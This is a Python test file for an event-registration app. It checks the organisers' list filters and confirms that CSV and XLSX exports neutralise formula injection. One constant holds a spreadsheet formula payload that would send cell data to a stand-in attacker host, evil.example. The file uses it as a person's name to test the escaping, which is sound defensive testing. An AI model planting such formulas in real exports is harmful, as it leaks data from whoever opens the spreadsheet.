"""The organisers' list of registrations: filters, and its CSV and XLSX downloads, formula-safe."""
import csv
import io

import openpyxl

from lab.core.timeutil import to_rome
from lab.events import queries, questions, registrations, services, signup
from tests.conftest import sign_in
from tests.events.conftest import delegates, publish
from tests.events.test_signup import link_in
from tests.factories import make_person

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"clic")'


def _forum(organiser, piemonte):
    """Capacity 3, one seat reserved for Piemonte: two Piemonte and one Toscana seated, one waits."""
    event = publish(organiser, capacity=3)
    services.set_quotas(organiser, event, {piemonte.id: 1})
    reserved, general = delegates("piemonte", 2)
    formula = make_person("formula@example.org", FORMULA, "delegate", "toscana")
    waiting = delegates("toscana", 1)[0]
    for person in (reserved, general, formula, waiting):
        registrations.register(person, event)
    return event


def _names(page: str, people) -> set[str]:
    return {person for person in people if person in page}


def test_the_list_filters_by_status_region_and_seat(client, organiser, piemonte):
    event = _forum(organiser, piemonte)
    sign_in(client, organiser)
    everyone = ["Piemonte 0", "Piemonte 1", "Toscana 0", "HYPERLINK"]
    url = f"/events/{event.id}/registrations"
    assert _names(client.get(url).get_data(as_text=True), everyone) == set(everyone)
    assert _names(client.get(f"{url}?status=waiting").get_data(as_text=True), everyone) == {"Toscana 0"}
    assert _names(client.get(f"{url}?region={piemonte.id}").get_data(as_text=True),
                  everyone) == {"Piemonte 0", "Piemonte 1"}
    assert _names(client.get(f"{url}?pool=region").get_data(as_text=True), everyone) == {"Piemonte 0"}
    page = client.get(f"{url}?status=registered&pool=general").get_data(as_text=True)
    assert _names(page, everyone) == {"Piemonte 1", "HYPERLINK"}
    assert "registrations.csv?status=registered&amp;pool=general" in page
    assert client.get(f"{url}?region=toscana").status_code == 400


def test_cancelled_registrations_are_listed_only_when_asked_for(client, organiser, piemonte):
    event = _forum(organiser, piemonte)
    leaving = delegates("piemonte", 1)[0]
    registrations.cancel_registration(leaving, queries.registration_of(leaving, event))
    sign_in(client, organiser)
    url = f"/events/{event.id}/registrations"
    assert "Piemonte 0" not in client.get(url).get_data(as_text=True)
    assert "Piemonte 0" in client.get(f"{url}?status=cancelled").get_data(as_text=True)


def test_csv_export_has_the_filtered_rows_and_quotes_a_name_that_looks_like_a_formula(
        client, organiser, piemonte):
    event = _forum(organiser, piemonte)
    sign_in(client, organiser)
    response = client.get(f"/events/{event.id}/registrations.csv?status=registered")
    assert response.mimetype == "text/csv"
    assert f'filename="iscrizioni-evento-{event.id}.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][:6] == ["N.", "Nome", "Email", "Regione", "Stato", "Posto"]
    assert [row[1] for row in rows[1:]] == ["Piemonte 0", "Piemonte 1", "'" + FORMULA]
    assert rows[1][3:6] == ["Piemonte", "Iscritto", "Riservato alla regione"]
    assert rows[2][5] == "Generale"
    first = queries.registration_of(delegates("piemonte", 1)[0], event)
    assert rows[1][6] == to_rome(first.created_at).isoformat(" ", "minutes")[:16]  # Rome's time


def test_xlsx_export_stores_a_name_that_looks_like_a_formula_as_text(client, organiser, piemonte):
    event = _forum(organiser, piemonte)
    sign_in(client, organiser)
    response = client.get(f"/events/{event.id}/registrations.xlsx")
    assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sheet")
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    assert [row[1].value for row in rows[1:]] == ["Piemonte 0", "Piemonte 1", FORMULA, "Toscana 0"]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert rows[3][1].data_type == "s"
    assert rows[4][4].value == "In lista d'attesa"


def test_the_manage_page_links_the_list_and_both_downloads(client, organiser, forum):
    sign_in(client, organiser)
    page = client.get(f"/events/{forum.id}/manage").get_data(as_text=True)
    for path in ("registrations", "registrations.csv", "registrations.xlsx"):
        assert f'href="/events/{forum.id}/{path}"' in page


def test_the_export_lists_people_without_an_account_and_every_answer(client, organiser, smtp):
    event = publish(organiser, capacity=5)
    question = questions.add_question(organiser, event, questions.QuestionDraft(
        "Arriverai in treno?", "yes_no"))
    member = delegates("piemonte", 1)[0]
    registrations.register(member, event)
    signup.request_signup(event, "Anna Bianchi", "anna@example.org", "Comune di Asti",
                          questions.Details({question.id: "yes"}, dietary="Vegetariana"))
    signup.confirm_signup(link_in(smtp, "anna@example.org", "/events/signup/"))
    sign_in(client, organiser)
    rows = list(csv.reader(io.StringIO(
        client.get(f"/events/{event.id}/registrations.csv").get_data(as_text=True))))
    header = rows[0]
    guest = dict(zip(header, rows[2]))
    assert [rows[1][1], guest["Nome"], guest["Email"]] == [
        "Piemonte 0", "Anna Bianchi", "anna@example.org"]
    assert guest["Organizzazione (senza account)"] == "Comune di Asti"
    assert guest["Arriverai in treno?"] == "Sì"
    assert guest["Esigenze alimentari"] == "Vegetariana"
    page = client.get(f"/events/{event.id}/registrations").get_data(as_text=True)
    assert "Anna Bianchi" in page and "anna@example.org" in page
